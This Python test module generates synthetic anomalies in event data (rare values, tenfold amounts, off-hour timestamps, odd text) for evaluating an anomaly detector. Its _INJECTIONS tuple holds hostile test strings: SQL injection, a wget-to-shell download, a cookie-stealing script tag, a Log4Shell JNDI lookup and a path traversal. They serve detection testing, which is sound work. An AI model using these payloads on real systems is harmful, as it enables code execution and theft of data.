"""Makes a normal event odd in one column, and says how: the causes that a reason should name.

Each kind picks at random among the columns in which it is possible. It is None where no value of
its kind would be odd: where new names are usual, another one is no anomaly.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import numpy as np
import pandas as pd

from schemas.columns.roles import Role
from tests.bench.habits import ENOUGH, Event, Habits

RARE = 0.001
"""A name with a smaller share of the events is rare."""
COMMON = 0.01
"""A name with a larger share is common; and so is one of those that three events in four hold."""
_NOVELTY = 0.05
"""The most of the events that may hold a rare name, if another one is to be odd."""
_OWN_NOVELTY = 0.2
"""The most names an entity may have for each of its events, if a new one is to be odd."""
_EXTREME = 0.995
_QUIET = 0.02
"""The largest share of the events in an hour in which few fall: half of what falls by chance."""
_SILENT = 0.005
"""The same where no entity's habit makes the hour odder still."""
_FAR = 3
"""Hours by which a moment moves at least."""
_INJECTIONS = (
    "' OR '1'='1' --",
    "; wget http://203.0.113.9/x.sh -O- | sh",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://203.0.113.9:1389/a}",
    "../../../../etc/passwd%00",
)


@dataclass(frozen=True)
class Change:
    """One column of one event, and the odd value it is given."""

    column: str
    value: Any
    given: str | None = None
    """The entity column whose habit it breaks; None where it is odd for all."""

    def apply(self, event: Event) -> Event:
        """Return the event with the odd value."""
        return {**event, self.column: self.value}


Changer = Callable[[Habits, Event, np.random.Generator], Change | None]


def rare_value(habits: Habits, event: Event, random: np.random.Generator) -> Change | None:
    """Give a category a name that hardly an event holds, or that none does."""
    for column in _shuffled(habits.columns(Role.CATEGORY), random):
        shares = habits.shares(column)
        rare = shares[shares < RARE]
        if event[column] is None or rare.sum() > _NOVELTY:
            continue
        names = [name for name in rare.index if name != event[column]]
        if names and random.random() < 0.5:
            return Change(column, str(random.choice(names)))
        return Change(column, _made_up_word(random))
    return None


def others_habit(habits: Habits, event: Event, random: np.random.Generator) -> Change | None:
    """Give a category or entity a name that is common, but that another entity never has."""
    pairs = [
        (entity, column)
        for entity in habits.well_known(event)
        for column in habits.columns(Role.CATEGORY, Role.ENTITY)
        if column != entity and event[column] is not None
    ]
    for entity, column in _shuffled(pairs, random):
        own = set(habits.own(entity, event)[column].dropna())
        if len(own) > _OWN_NOVELTY * len(habits.own(entity, event)):
            continue
        names = [name for name in common_names(habits.counts[column]) if name not in own]
        names = [name for name in names if name != event[column]]
        if names:
            return Change(column, str(random.choice(names)), entity)
    return None


def common_names(counts: pd.Series) -> list[str]:
    """Return the names that are frequent for their column.

    Examples
    --------
    >>> common_names(pd.Series({"a": 600, "b": 395, "c": 5}))
    ['a', 'b']
    """
    ordered = counts.sort_values()
    quarter = ordered[ordered.cumsum() >= 0.25 * ordered.sum()].iloc[0]
    return [str(name) for name in counts[counts >= min(COMMON * counts.sum(), quarter)].index]


def ten_times(habits: Habits, event: Event, random: np.random.Generator) -> Change | None:
    """Give a number ten times what is typical, of the event's entity where that has a level."""
    for column in _shuffled(habits.columns(Role.NUMBER), random):
        if event[column] is None:
            continue
        entities = _shuffled(habits.well_known(event), random)
        contexts = [(e, habits.own(e, event)[column].dropna()) for e in entities]
        contexts = [(e, own) for e, own in contexts if len(own) >= ENOUGH]
        given, values = contexts[0] if contexts else (None, habits.frame[column].dropna())
        value = tenfold(values.to_numpy())
        if value is not None:
            return Change(column, value, given)
    return None


def tenfold(values: np.ndarray) -> float | None:
    """Return ten times the median, the 99.5 % quantile or the maximum: what first lies beyond it.

    Examples
    --------
    >>> tenfold(np.array([1.0, 2.0, 3.0])), tenfold(np.repeat([0.0, 2.0], [999, 1]))
    (20.0, 20.0)
    >>> tenfold(np.array([2.0, 2.0])) is None
    True
    """
    if not len(values) or values.min() < 0.0 or values.min() == values.max():
        return None
    typical, extreme = np.quantile(values, [0.5, _EXTREME]).tolist()
    tenfolds = (10.0 * value for value in (typical, extreme, float(values.max())))
    return next(value for value in tenfolds if value > extreme)


def small_hours(habits: Habits, event: Event, random: np.random.Generator) -> Change | None:
    """Move an event to an hour of its day in which few events fall, and none of its entity's."""
    time = next(iter(habits.columns(Role.TIME)), None)
    if time is None or not _covers_days(habits.frame[time]):
        return None
    given = next(iter(_shuffled(habits.well_known(event), random)), None)
    own = np.zeros(24) if given is None else _hours(habits.own(given, event)[time])
    around = own + np.roll(own, 1) + np.roll(own, -1)
    moment: datetime = event[time]
    away = np.abs((np.arange(24) - moment.hour + 12) % 24 - 12)
    most = _SILENT if given is None else _QUIET
    quiet = habits.hours < most * habits.hours.sum()
    hours = np.flatnonzero(quiet & (around == 0) & (away >= _FAR))
    if not len(hours):
        return None
    return Change(time, moment.replace(hour=int(random.choice(hours))), given)


def _hours(moments: pd.Series) -> np.ndarray:
    return np.bincount(moments.dt.hour, minlength=24)


def _covers_days(moments: pd.Series) -> bool:
    return moments.max() - moments.min() >= pd.Timedelta(days=2)


def odd_text(habits: Habits, event: Event, random: np.random.Generator) -> Change | None:
    """Append to a text words that nobody has written, or an injection."""
    for column in _shuffled(habits.columns(Role.TEXT), random):
        if event[column] is not None:
            words = " ".join(_made_up_word(random) for _ in range(3))
            ending = words if random.random() < 0.5 else str(random.choice(_INJECTIONS))
            return Change(column, f"{event[column]} {ending}".strip())
    return None


KINDS: dict[str, Changer] = {
    "rare value": rare_value,
    "other entity's habit": others_habit,
    "ten times the amount": ten_times,
    "3 a.m.": small_hours,
    "odd text": odd_text,
}


def _made_up_word(random: np.random.Generator) -> str:
    return "".join(random.choice(list("bcdfghjklmnpqrtvwxzaeiou"), 9))


def _shuffled(items: list[Any], random: np.random.Generator) -> Iterator[Any]:
    return (items[i] for i in random.permutation(len(items)))
